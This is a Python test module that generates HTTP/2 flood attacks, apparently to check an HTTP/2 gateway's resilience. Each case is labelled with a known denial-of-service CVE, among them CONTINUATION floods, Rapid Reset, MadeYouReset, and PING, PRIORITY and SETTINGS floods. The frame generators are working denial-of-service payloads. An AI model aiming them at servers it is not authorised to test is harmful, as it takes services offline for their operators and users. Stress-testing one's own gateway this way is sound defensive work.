"""More HTTP/2 floods."""

import struct

from rig.forms_floods import fields, flood, opened, streams, whole
from rig.http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, literal


def endless(piece):
    """The same frame without end."""

    def pour(token):
        while True:
            yield piece

    return pour


def in_a_stream(piece):
    """The same frame without end in a request that stays open."""

    def pour(token):
        yield opened(1, fields(token, b"POST"))
        while True:
            yield piece

    return pour


def per_stream(make):
    """make(stream, headers) for one stream after the other."""

    def pour(token):
        headers = fields(token, b"POST")
        for stream in streams():
            yield make(stream, headers)

    return pour


def continuation(token):
    """A head that never ends."""
    yield frame(HEADERS, END_STREAM, 1, fields(token))
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 1000))


def empty_continuation(token):
    """A head that never ends and never grows."""
    yield frame(HEADERS, END_STREAM, 1, fields(token))
    while True:
        yield frame(CONTINUATION, 0, 1)


def refused(token):
    """Requests without a token, which the gateway answers by itself."""
    headers = fields(b"bad")
    for stream in streams():
        yield whole(stream, headers)


def crumbs(token):
    """A hundred cookies in each request."""
    headers = fields(token, b"GET", *((b"cookie", b"a=%d" % number) for number in range(90)))
    for stream in streams():
        yield whole(stream, headers)


def table_sizes(token):
    """SETTINGS that change the table of the peer back and forth."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096))


def windows(token):
    """SETTINGS that move the windows of a hundred open streams."""
    headers = fields(token, b"POST")
    for stream in range(1, 200, 2):
        yield opened(stream, headers)
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 60_000))


ZERO = struct.pack(">I", 0)
ONE = struct.pack(">I", 1)

CASES = [
    flood("continuation", continuation, 10_000, "CVE-2024-27316, RUSTSEC-2024-0332"),
    flood("continuation-empty", empty_continuation, 150_000, "CVE-2024-27316", per_write=500),
    flood("priority", endless(frame(PRIORITY, 0, 1, bytes(5))), 150_000, "CVE-2019-9513", per_write=500),
    flood("window-update", endless(frame(WINDOW_UPDATE, 0, 0, ONE)), 150_000, "frames that change nothing", per_write=500),
    flood("unknown", endless(frame(0x2A, 0, 0, bytes(8))), 150_000, "frames of no known kind", per_write=500),
    flood("unknown-large", endless(frame(0x2A, 0, 0, bytes(16_000))), 5_000, "large frames of no known kind", per_write=10),
    flood("goaway", endless(frame(GOAWAY, 0, 0, bytes(8))), 100_000, "GOAWAY again and again", per_write=500),
    flood("ping-read", endless(frame(PING, 0, 0, bytes(8))), 100_000, "CVE-2019-9512", per_write=500),
    flood("settings-table", table_sizes, 40_000, "CVE-2019-9515"),
    flood("settings-windows", windows, 40_000, "CVE-2019-9515, windows of many streams"),
    flood("reset-after-head", per_stream(lambda stream, headers: opened(stream, headers) + frame(RST_STREAM, 0, stream, ZERO)), 40_000, "CVE-2023-44487"),
    flood("reset-noread", per_stream(lambda stream, headers: whole(stream, headers) + frame(RST_STREAM, 0, stream, ZERO)), 40_000, "CVE-2023-44487", read=False),
    flood("madeyoureset-wu0", per_stream(lambda stream, headers: opened(stream, headers) + frame(WINDOW_UPDATE, 0, stream, ZERO)), 40_000, "CVE-2025-8671"),
    flood("madeyoureset-halfclosed", per_stream(lambda stream, headers: whole(stream, headers) + frame(DATA, 0, stream, b"a")), 40_000, "CVE-2025-8671"),
    flood("madeyoureset-headers", per_stream(lambda stream, headers: whole(stream, headers) + whole(stream, headers)), 40_000, "CVE-2025-8671"),
    flood("madeyoureset-length", per_stream(lambda stream, headers: opened(stream, headers + literal(b"content-length", b"1")) + frame(DATA, END_STREAM, stream, b"abc")), 40_000, "CVE-2025-8671"),
    flood("padding", in_a_stream(frame(DATA, 8, 1, b"\xff" + bytes(255))), 40_000, "DATA that is padding alone"),
    flood("bad-trailers", per_stream(lambda stream, headers: opened(stream, headers) + frame(HEADERS, END_STREAM | END_HEADERS, stream, literal(b":path", b"/"))), 40_000, "CVE-2019-9514"),
    flood("refused", refused, 20_000, "requests that are refused"),
    flood("refused-noread", refused, 20_000, "requests that are refused, with answers that nobody reads", read=False),
    flood("crumbs", crumbs, 2_000, "cookies in crumbs", per_write=10),
]  # fmt: skip
